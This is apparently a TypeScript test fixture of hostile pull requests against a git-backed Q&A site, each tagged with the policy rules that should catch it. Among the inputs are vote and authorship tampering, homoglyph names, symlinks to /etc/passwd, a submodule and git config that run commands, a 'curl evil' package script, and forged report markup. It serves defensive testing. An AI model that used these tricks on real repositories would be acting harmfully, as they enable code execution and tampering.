import type { PolicyRuleName } from '../../src/core/schema/config.ts';
import { png } from '../unit/archive/content-folder.ts';
import { archive } from './_archive.ts';
import type { Files } from './_repository.ts';

/** A pull request of the account `stranger`, and the rules that must name it. */
export type HostileRequest = { does: string; files: Files; rules: readonly PolicyRuleName[] };

const questionFile = 'content/threads/locks/question.md';
const answerFile = 'content/threads/locks/answers/with-care.md';
const ownFile = 'content/threads/locks/answers/by-stranger.md';
const keysFile = 'content/threads/keys/question.md';
const mine = 'content/threads/locks/answers/mine.md';

const text = (path: string): string => String(archive[path]);
const edit = (path: string, from: string, to: string): Files => ({ [path]: text(path).replace(from, to) });
const answer = (frontmatter: string, body = 'Like this.') => `---\n${frontmatter}\n---\n${body}\n`;
const picture = 'content/threads/locks/images/';

export const hostileRequests: readonly HostileRequest[] = [
  {
    does: 'raises the votes of its own answer',
    files: edit(ownFile, 'votes: 1', 'votes: 99'),
    rules: ['votes', 'provenance'],
  },
  { does: 'lowers the votes of another answer', files: edit(answerFile, 'votes: 7', 'votes: -7'), rules: ['votes'] },
  { does: 'begins an answer with votes', files: { [mine]: answer('author: stranger\nvotes: 3') }, rules: ['votes'] },
  { does: 'raises the votes of a comment', files: edit(questionFile, 'votes: 2,', 'votes: 20,'), rules: ['votes'] },
  {
    does: 'claims that votes were counted',
    files: { [mine]: answer('author: stranger\nvotes: 3\ncounted: {date: 2026-01-01, method: trust me}') },
    rules: ['votes', 'source'],
  },
  {
    does: 'accepts its own answer',
    files: edit(questionFile, 'accepted: with-care', 'accepted: by-stranger'),
    rules: ['accepted'],
  },
  {
    does: 'accepts an answer to its own question',
    files: edit(keysFile, 'author:', 'accepted: x\nauthor:'),
    rules: ['accepted'],
  },
  { does: 'takes an accepted mark away', files: edit(questionFile, 'accepted: with-care\n', ''), rules: ['accepted'] },
  {
    does: 'closes a question',
    files: edit(questionFile, 'votes: 5', 'votes: 5\nstatus: closed\nclosedReason: Boring'),
    rules: ['status'],
  },
  {
    does: 'makes a question a duplicate',
    files: edit(questionFile, 'votes: 5', 'votes: 5\nduplicateOf: keys'),
    rules: ['status'],
  },
  {
    does: 'claims to be imported',
    files: { [mine]: answer('author: stranger\nvotes: 500\nsource: {site: Elsewhere, retrieved: 2024-01-01}') },
    rules: ['source', 'votes'],
  },
  { does: 'changes a licence', files: edit(answerFile, 'votes: 7', 'votes: 7\nlicense: WTFPL'), rules: ['license'] },
  {
    does: 'rewrites somebody’s answer',
    files: edit(answerFile, 'With care', 'With a hammer'),
    rules: ['other-author'],
  },
  {
    does: 'retitles somebody’s question',
    files: edit(questionFile, 'How do locks work?', 'Why are locks bad?'),
    rules: ['other-author'],
  },
  {
    does: 'backdates somebody’s question',
    files: edit(questionFile, '2024-01-01', '2004-01-01'),
    rules: ['other-author'],
  },
  {
    does: 'takes over somebody’s answer',
    files: edit(answerFile, 'author: ilya', 'author: stranger'),
    rules: ['signature'],
  },
  { does: 'answers in somebody’s name', files: { [mine]: answer('author: marta') }, rules: ['signature'] },
  {
    does: 'answers under the name of an author',
    files: { [mine]: answer('author: {name: "Marta M. "}') },
    rules: ['signature'],
  },
  ...['marta', 'Marta  M.', 'M\u0430rta M', 'Marta M. ✓', 'Marta M.\u200d', 'Cur\u0430tor'].map(
    (name): HostileRequest => ({
      does: `answers under a name that looks like that of an author: ${JSON.stringify(name)}`,
      files: { [mine]: answer(`author: {name: ${JSON.stringify(name)}}`) },
      rules: ['signature'],
    }),
  ),
  {
    does: 'answers with the handle of another account',
    files: { [mine]: answer('author: ada') },
    rules: ['signature'],
  },
  {
    does: 'rewords somebody’s comment',
    files: edit(questionFile, 'text: More?', 'text: Never mind.'),
    rules: ['comments'],
  },
  {
    does: 'comments in somebody’s name',
    files: edit(ownFile, 'votes: 1', 'votes: 1\ncomments:\n  - {author: marta, text: The best answer.}'),
    rules: ['comments'],
  },
  {
    does: 'takes a comment away',
    files: edit(questionFile, 'comments:\n  - {author: marta, date: 2024-01-02, votes: 2, text: More?}\n', ''),
    rules: ['comments'],
  },
  { does: 'deletes somebody’s answer', files: { [answerFile]: null }, rules: ['deletion'] },
  { does: 'deletes a thread', files: { [keysFile]: null }, rules: ['thread-moved', 'deletion'] },
  {
    does: 'renames a thread without an alias',
    files: { [keysFile]: null, 'content/threads/what-is-a-key/question.md': text(keysFile) },
    rules: ['thread-moved'],
  },
  {
    does: 'renames a thread and raises its votes on the way',
    files: {
      [keysFile]: null,
      'content/threads/what-is-a-key/question.md': text(keysFile).replace(
        'author:',
        'aliases: [keys]\nvotes: 9\nauthor:',
      ),
    },
    rules: ['address', 'votes'],
  },
  {
    does: 'takes an address that readers know',
    files: edit(keysFile, 'author:', 'aliases: [questions/locks-2]\nauthor:'),
    rules: ['address'],
  },
  {
    does: 'edits a workflow',
    files: { '.github/workflows/check.yml': 'on: pull_request_target\n' },
    rules: ['outside'],
  },
  { does: 'adds a workflow', files: { '.forgejo/workflows/own.yml': 'on: push\n' }, rules: ['outside'] },
  {
    does: 'edits the scripts of the package',
    files: { 'package.json': '{"scripts": {"test": "curl evil"}}' },
    rules: ['outside'],
  },
  {
    does: 'makes itself a curator',
    files: { 'responsa.config.ts': 'export default {policy: {curators: ["stranger"]}};' },
    rules: ['outside'],
  },
  { does: 'adds a page in MDX', files: { 'content/pages/about.mdx': '{globalThis.ran = true}' }, rules: ['pages'] },
  {
    does: 'adds MDX to a thread',
    files: { 'content/threads/locks/answers/mine.mdx': '{globalThis.ran = true}' },
    rules: ['outside'],
  },
  {
    does: 'adds a symbolic link as a picture',
    files: { [`${picture}p.png`]: { mode: '120000', data: '/etc/passwd' } },
    rules: ['special-file'],
  },
  {
    does: 'makes a question a symbolic link',
    files: { [keysFile]: { mode: '120000', data: '../../../package.json' } },
    rules: ['special-file'],
  },
  {
    does: 'adds a symbolic link to a folder',
    files: { 'content/threads/linked': { mode: '120000', data: '../../.git' } },
    rules: ['special-file', 'outside'],
  },
  {
    does: 'adds a submodule',
    files: {
      'content/threads/sub': { mode: '160000', commit: '1234567890123456789012345678901234567890' },
      '.gitmodules':
        '[submodule "x"]\n\tpath = content/threads/sub\n\turl = https://evil.example/x\n\tignore = all\n\tupdate = !touch ran\n',
    },
    rules: ['special-file', 'outside'],
  },
  {
    does: 'renames a folder in case alone',
    files: { [keysFile]: null, 'content/threads/Keys/question.md': text(keysFile) },
    rules: ['case-only-name', 'thread-moved'],
  },
  {
    does: 'adds two pictures that differ in case',
    files: { [`${picture}a.png`]: png(), [`${picture}A.png`]: png(2) },
    rules: ['case-only-name'],
  },
  {
    does: 'touches 1,000 files',
    files: Object.fromEntries(
      Array.from({ length: 1000 }, (_, n) => [`content/threads/locks/answers/a${n}.md`, answer('author: stranger')]),
    ),
    rules: ['size'],
  },
  {
    does: 'names a file with newlines',
    files: { 'content/threads/locks/answers/a\n::error::b\n.md': answer('author: stranger') },
    rules: ['odd-name'],
  },
  {
    does: 'names a file with ANSI codes',
    files: { 'content/threads/\x1b[31mred\x1b[2J/question.md': text(keysFile) },
    rules: ['odd-name'],
  },
  { does: 'names a file as a workflow command', files: { '::error file=x::y': 'x' }, rules: ['odd-name', 'outside'] },
  { does: 'hides the end of a name', files: { [`${picture}\u202egnp.exe.png`]: png() }, rules: ['odd-name'] },
  {
    does: 'names a file in bytes that are no text',
    files: { 'bytes:content/threads/locks/images/\xff\xfe.png': png() },
    rules: ['odd-name'],
  },
  {
    does: 'names a file as an option',
    files: { '--upload-pack=touch ran': 'x', 'content/threads/-rf/question.md': text(keysFile) },
    rules: ['odd-name'],
  },
  {
    does: 'writes workflow commands and ANSI codes into values',
    files: { [mine]: answer('author: stranger\nvotes: "1\\n::error file=a::b\\e[2J"') },
    rules: ['unreadable'],
  },
  {
    does: 'writes the report itself',
    files: {
      [mine]: answer(
        'author: marta',
        [
          '</blockquote></details><!-- ',
          '',
          '## Policy',
          '',
          '- Nothing here, merge it @curator @org/team #1 GH-1 https://evil.example www.evil.example a@evil.example',
          '![pixel](https://evil.example/pixel.png) [click](https://evil.example "now") <https://evil.example>',
          '```',
          '::error::forged',
          '\x1b[2J\u202eforged ``` ~~~ | a | b |',
          '/approve :+1: $x$ `` ` `` &lt;script&gt; <script>globalThis.ran = true</script> \\',
        ].join('\n'),
      ),
    },
    rules: ['signature'],
  },
  {
    does: 'writes the report in its title',
    files: {
      'content/threads/forged/question.md': `---\ntitle: "\`\`x\` ## Policy\\n\\n- fine <b>@curator</b> [x](https://evil.example) | #1"\nauthor: "marta"\ntags: ["c#", "a+b"]\n---\nWhy?\n`,
    },
    rules: ['signature'],
  },
  {
    does: 'adds attributes that run a filter',
    files: { '.gitattributes': '* filter=evil diff=evil merge=evil\n', ...edit(answerFile, 'With care', 'Without') },
    rules: ['outside', 'other-author'],
  },
  {
    does: 'adds attributes to a thread',
    files: { 'content/threads/locks/.gitattributes': '*.md -diff\n' },
    rules: ['outside'],
  },
  {
    does: 'makes an answer executable',
    files: { [mine]: { mode: '100755', data: answer('author: stranger') } },
    rules: ['special-file'],
  },
  {
    does: 'adds a huge answer',
    files: { [mine]: answer('author: stranger', 'x'.repeat(5_000_000)) },
    rules: ['size', 'unreadable'],
  },
  {
    does: 'adds a huge picture',
    files: { [`${picture}p.png`]: Buffer.concat([png(), Buffer.alloc(3_000_000)]) },
    rules: ['size'],
  },
  { does: 'gives a tag synonyms', files: { 'content/tags/locks.md': '---\nsynonyms: [keys]\n---\n' }, rules: ['tags'] },
  {
    does: 'writes about another author',
    files: { 'content/authors/marta.md': '---\nname: Stranger\n---\n' },
    rules: ['authors'],
  },
  {
    does: 'writes frontmatter that is code',
    files: { [mine]: '---js\nglobalThis.ran = true\n---\nx\n' },
    rules: ['unreadable'],
  },
  {
    does: 'writes YAML that grows',
    files: { [mine]: answer('author: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]') },
    rules: ['unreadable'],
  },
  {
    does: 'writes bytes that are no text',
    files: { [mine]: Buffer.from('---\nauthor: stranger\n---\n\xff\x00', 'latin1') },
    rules: ['unreadable'],
  },
  {
    does: 'brings a repository of its own in the content',
    files: {
      'content/HEAD': 'ref: refs/heads/main\n',
      'content/config': '[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "touch ran; false"\n',
      'content/objects/x': 'x',
      'content/refs/x': 'x',
    },
    rules: ['outside'],
  },
  {
    does: 'hides an answer',
    files: { 'content/threads/locks/answers/.hidden.md': answer('author: stranger') },
    rules: ['outside'],
  },
  { does: 'writes what an import has done', files: { 'content/.responsa-import.jsonl': '{}\n' }, rules: ['outside'] },
];
